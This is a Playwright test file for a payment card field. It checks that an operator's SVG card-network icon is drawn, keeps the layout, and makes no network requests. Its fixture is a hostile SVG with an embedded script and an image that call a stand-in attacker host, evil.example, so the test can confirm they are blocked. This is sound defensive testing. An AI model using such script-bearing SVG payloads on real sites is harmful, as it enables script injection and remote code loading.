import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FrameLocator } from '@playwright/test';
import { openCardWith } from '../support/honest-page.ts';
import {
  expect,
  type Merchant,
  test as base,
  tokenize,
  typeCard,
  withMerchant,
} from '../support/merchant.ts';

/** No network's mark, and one that would run and load if anything in a field let it. */
const PICTURE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 30 20">
  <script>fetch('https://evil.example/script')</script>
  <image href="https://evil.example/picture.png" width="1" height="1"/>
  <rect width="30" height="20" rx="3" fill="rgb(10, 120, 60)"/></svg>`;

/** A merchant whose operator shows a picture of one network. */
const test = base.extend<object, { pictured: Merchant }>({
  pictured: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of what is used here
    async ({}, use) => {
      const folder = mkdtempSync(join(tmpdir(), 'hushfield-icons-'));
      writeFileSync(join(folder, 'visa.svg'), PICTURE);
      await withMerchant(use, { BRAND_ICONS_DIR: folder });
      rmSync(folder, { recursive: true });
    },
    { scope: 'worker', timeout: 60_000 },
  ],
});

const markOf = (frame: FrameLocator) => frame.locator('.field-number .brand');
const pictureOf = (frame: FrameLocator) =>
  markOf(frame).evaluate((mark) => getComputedStyle(mark).backgroundImage.slice(0, 24));

test('shows the operator’s picture of a network, asks nobody for it, and pays', async ({
  page,
  pictured,
}) => {
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  const frame = await openCardWith(page, pictured, {});
  await page.waitForLoadState('networkidle');
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await frame.locator('[autocomplete=cc-number]').fill('4242 4242 4242 4242');
  await expect.poll(() => pictureOf(frame)).toBe('url("data:image/svg+xml;');
  // Drawn, and not only named: the green of the picture, in the middle of the mark.
  const shot = await markOf(frame).screenshot();
  const green = await page.evaluate(
    async (picture) => {
      const image = await createImageBitmap(await (await fetch(picture)).blob());
      const pen = new OffscreenCanvas(image.width, image.height).getContext('2d');
      pen?.drawImage(image, 0, 0);
      return [...(pen?.getImageData(image.width / 2, image.height / 2, 1, 1).data ?? [])];
    },
    `data:image/png;base64,${shot.toString('base64')}`,
  );
  expect(green.slice(0, 3)).toStrictEqual([10, 120, 60]);
  await expect(markOf(frame)).toHaveText('Visa');
  // At the first digit of every card comes the choice of networks.
  expect(asked.filter((url) => !/^data:|\/assets\/more-/.test(url))).toStrictEqual([]);
  await frame.locator('[autocomplete=cc-number]').fill('5555 5555 5555 4444');
  await expect.poll(() => pictureOf(frame)).toBe('none');
  await expect(markOf(frame)).toBeVisible();
  await frame.locator('[autocomplete=cc-number]').fill('');
  await typeCard(page);
  expect((await tokenize(page)).token?.id).toMatch(/^tok_test_/);
  expect(complaints).toStrictEqual([]);
});

test('shows the name where a shopper has forced colours', async ({ page, pictured }) => {
  await page.emulateMedia({ forcedColors: 'active' });
  const frame = await openCardWith(page, pictured, {});
  await frame.locator('[autocomplete=cc-number]').fill('4242 4242 4242 4242');
  await expect(markOf(frame)).toHaveText('Visa');
  expect(await pictureOf(frame)).toBe('none');
});

test('loses no width and no height by it', async ({ page, pictured }) => {
  for (const width of [320, 1280]) {
    await page.setViewportSize({ width, height: 800 });
    const frame = await openCardWith(page, pictured, {});
    const frameHeight = () =>
      page.locator('#card iframe').evaluate((element) => element.getBoundingClientRect().height);
    const before = await frameHeight();
    await frame.locator('[autocomplete=cc-number]').fill('4242 4242 4242 4242');
    await expect.poll(() => pictureOf(frame)).toBe('url("data:image/svg+xml;');
    expect(await frameHeight()).toBe(before);
    const scrolls = await frame
      .locator('html')
      .evaluate((html) => html.scrollWidth - html.clientWidth);
    expect(scrolls).toBe(0);
  }
});
